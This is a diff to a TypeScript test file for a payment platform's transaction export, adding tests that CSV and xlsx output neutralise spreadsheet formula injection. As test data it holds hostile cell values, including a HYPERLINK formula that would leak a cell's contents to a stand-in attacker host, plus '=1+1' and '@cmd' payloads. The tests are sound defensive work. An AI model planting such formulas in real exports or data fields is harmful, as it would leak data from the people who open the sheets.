@@ -11,7 +11,7 @@ import { payments } from '@/db/schema';
 import { createPayment } from '@/lib/payments';
 import { makePlatform } from '@/test/fixtures';
 import { afterAll } from 'vitest';
-import { exportTransactions, safeText } from './export';
+import { csvField, exportTransactions, safeText } from './export';
 import { readFilters } from './filters';
 
 const { db, client } = createDb(process.env.DATABASE_URL!, { max: 5 });
@@ -61,9 +61,17 @@ describe('transaction export', () => {
     expect(row.getCell(4).value).toBe('2026-11-23');
     expect(row.getCell(12).value).toBe(999_999_999_999_999);
     expect(row.getCell(12).numFmt).toBe('#,##0');
-    expect(row.getCell(14).value).toBe("'+98 Ali");
-    expect(row.getCell(18).value).toBe('\'=HYPERLINK("http://evil")');
-    expect(row.getCell(19).value).toBe("'@SUM(A1)");
+    // Text that looks like a formula is text, exactly as typed: no formula, no visible leading quote.
+    for (const [col, text] of [
+      [14, '+98 Ali'],
+      [18, '=HYPERLINK("http://evil")'],
+      [19, '@SUM(A1)'],
+    ] as const) {
+      const cell = row.getCell(col);
+      expect(cell.formula).toBeUndefined();
+      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type);
+      expect(cell.text).toBe(text);
+    }
     expect(safeText('\tx')).toBe("'\tx");
     expect(safeText('-5')).toBe("'-5");
     expect(safeText('plain')).toBe('plain');
@@ -80,6 +88,63 @@ describe('transaction export', () => {
     expect(header).toContain('مبلغ (تومان)');
     expect(line).toContain(',12500.5,');
     expect(line).toContain('"a, ""quoted"" text"');
+  });
+
+  it('quotes and neutralises formula text in CSV, and keeps it exact text in xlsx', async () => {
+    const { merchant, platform } = await makePlatform(db);
+    const hostile = {
+      payerName: 'a;=1+1',
+      description: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      product: '-2+3',
+    };
+    await createPayment(db, { platformId: platform.id, source: 'api', livemode: true, amount: 5000n, orderId: '@cmd', product: hostile.product });
+    await db.update(payments).set({ payerName: hostile.payerName, description: hostile.description }).where(eq(payments.platformId, platform.id));
+
+    const csvFile = path.join(dir, 'hostile.csv');
+    await exportTo(csvFile, { scope: { userId: merchant.id }, filters: filters(), format: 'csv', unit: 'rial' });
+    const line = (await import('node:fs')).readFileSync(csvFile, 'utf8').slice(1).trim().split('\r\n')[1];
+    // Excel with `;` as list separator would have split the name into `a` and a live `=1+1`.
+    expect(line).toContain(',"a;=1+1",');
+    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
+    expect(line).toContain(`,"'-2+3",`);
+    expect(line).toContain(`,"'@cmd",`);
+    // The amount is a number and stays one.
+    expect(line).toContain(',5000,');
+
+    const xlsxFile = path.join(dir, 'hostile.xlsx');
+    await exportTo(xlsxFile, { scope: { userId: merchant.id }, filters: filters(), format: 'xlsx', unit: 'rial' });
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(xlsxFile);
+    const row = wb.worksheets[0].getRow(2);
+    for (const [col, text] of [
+      [7, hostile.product],
+      [14, hostile.payerName],
+      [18, '@cmd'],
+      [19, hostile.description],
+    ] as const) {
+      const cell = row.getCell(col);
+      expect(cell.formula).toBeUndefined();
+      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type);
+      expect(cell.text).toBe(text);
+    }
+    expect(row.getCell(12).value).toBe(5000);
+  });
+
+  it('writes CSV fields by one rule', () => {
+    expect(csvField('plain')).toBe('plain');
+    expect(csvField('a;b')).toBe('"a;b"');
+    expect(csvField('a,b')).toBe('"a,b"');
+    expect(csvField('say "hi"')).toBe('"say ""hi"""');
+    expect(csvField('two\nlines')).toBe('"two\nlines"');
+    expect(csvField('=1+1')).toBe(`"'=1+1"`);
+    expect(csvField('+98 912')).toBe(`"'+98 912"`);
+    expect(csvField('\t=1')).toBe(`"'\t=1"`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField('-5')).toBe(`"'-5"`);
+    // Numbers are numbers: a negative amount is not a formula and is not touched.
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField(12500.5)).toBe('12500.5');
+    expect(csvField(null)).toBe('');
   });
 
   it('exports another merchant’s rows never, and 200 000 rows with flat memory', async () => {
